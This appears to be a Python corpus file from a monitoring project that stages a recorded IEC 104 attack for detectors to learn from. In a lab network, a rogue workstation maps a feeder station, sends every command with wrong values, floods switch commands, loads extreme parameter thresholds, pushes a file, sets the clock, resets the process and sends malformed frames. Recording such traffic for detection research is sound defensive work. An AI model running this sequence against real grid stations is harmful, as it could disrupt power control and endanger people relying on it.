"""A rogue workstation maps a station, sends it every command with wrong values, floods it, loads parameters
and files, sets its clock and resets it, beside a control centre at work."""

from collections.abc import Iterable
from typing import Any

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "iec104/recorded-attack",
    stacks=("c104 2.2.1",),
    servers=("10.52.1.10", "10.52.1.11"),
    clients=("10.52.1.20", "10.52.1.66"),
    listens=("tcp 2404",),
)


def signature(said: bytes) -> Iterable[bytes]:
    """The clock of the client and the order of acknowledgements differ each time."""
    from _iec104 import messages

    return messages(said)


def server() -> None:
    """The feeder under attack, which is restarted, and a substation in normal operation."""
    from _iec104 import FEEDER, SUBSTATION
    from _iec104_stations import stations

    stations([FEEDER, SUBSTATION], restarting=FEEDER)


def client() -> None:
    """Look around, command, flood; then what only a client of its own can say."""
    import c104
    from _iec104 import ATTACKER, CONTROL, EVERYONE, FEEDER, SUBSTATION
    from _iec104_stations import Link, every_command

    with Link(CONTROL, FEEDER) as centre, Link(CONTROL, SUBSTATION) as other:
        for link in (centre, other):
            link.connection.interrogation(link.address)
        with Link(ATTACKER, FEEDER) as rogue:
            rogue.connection.interrogation(EVERYONE)
            rogue.connection.counter_interrogation(rogue.address, freeze=c104.Frz.COUNTER_RESET)
            for station in range(1, 8):
                rogue.connection.interrogation(station)
            for address in range(5000, 5012):
                rogue.read(address)
            for info, kind in every_command(low=True):
                rogue.command(info, kind)
            for turn in range(60):
                rogue.command(c104.SingleCmd(turn % 2 == 0), c104.Type.C_SC_NA_1)
            rogue.connection.clock_sync(EVERYONE)
        _by_hand(ATTACKER, FEEDER)
        for link in (centre, other):
            link.connection.interrogation(link.address)


def _by_hand(source: str, target: str) -> None:
    from _iec104 import STARTDT, STOPDT, TESTFR, Raw

    rogue = Raw(source, target)
    rogue.control(STARTDT)
    _parameters(rogue)
    _files(rogue)
    rogue.ask(45, b"\x01", address=1045)
    rogue.ask(106, b"\x10\x27")
    for _ in range(20):
        rogue.control(TESTFR)
    rogue.control(STOPDT)
    rogue.close()
    _reset(source, target)
    for garbage in (b"GET / HTTP/1.1\r\nHost: rtu\r\n\r\n", bytes.fromhex("68 ff 00 00 00 00 2d 01")):
        stranger = Raw(source, target)
        stranger.say(garbage)
        stranger.close()


def _parameters(rogue: Any) -> None:
    """Thresholds of a measured value (normalised, scaled, short), and their activation."""
    import struct

    rogue.ask(110, struct.pack("<hB", 32767, 1), address=200)
    rogue.ask(111, struct.pack("<hB", -1, 1), address=200)
    rogue.ask(112, struct.pack("<fB", 9999.0, 1), address=200)
    rogue.ask(113, b"\x01", address=200)


def _files(rogue: Any) -> None:
    """Call a directory, then deliver a file: ready, section ready, segment, last section, acknowledge."""
    import struct

    from _iec104 import FILE_TRANSFER

    directory, name, content = 5, 1, b"settings=none"
    rogue.ask(122, struct.pack("<HBB", 0, 0, 0), cause=directory)
    for kind, element in (
        (120, struct.pack("<H", name) + len(content).to_bytes(3, "little") + b"\x00"),
        (121, struct.pack("<HB", name, 1) + len(content).to_bytes(3, "little") + b"\x00"),
        (122, struct.pack("<HBB", name, 1, 1)),
        (125, struct.pack("<HBB", name, 1, len(content)) + content),
        (123, struct.pack("<HBBB", name, 1, 1, sum(content) % 256)),
        (124, struct.pack("<HBB", name, 1, 1)),
        (126, struct.pack("<H", name) + len(content).to_bytes(3, "little") + bytes(8)),
        (127, struct.pack("<H", name) + bytes(14)),
    ):
        rogue.ask(kind, element, cause=FILE_TRANSFER)


def _reset(source: str, target: str) -> None:
    from _iec104 import STARTDT, Raw

    from plantwatch.corpus.record import cues

    rogue = Raw(source, target)
    rogue.control(STARTDT)
    rogue.ask(105, b"\x01")
    cues.give("restarted")
    rogue.say(b"", quiet=0.3)
    rogue.close()
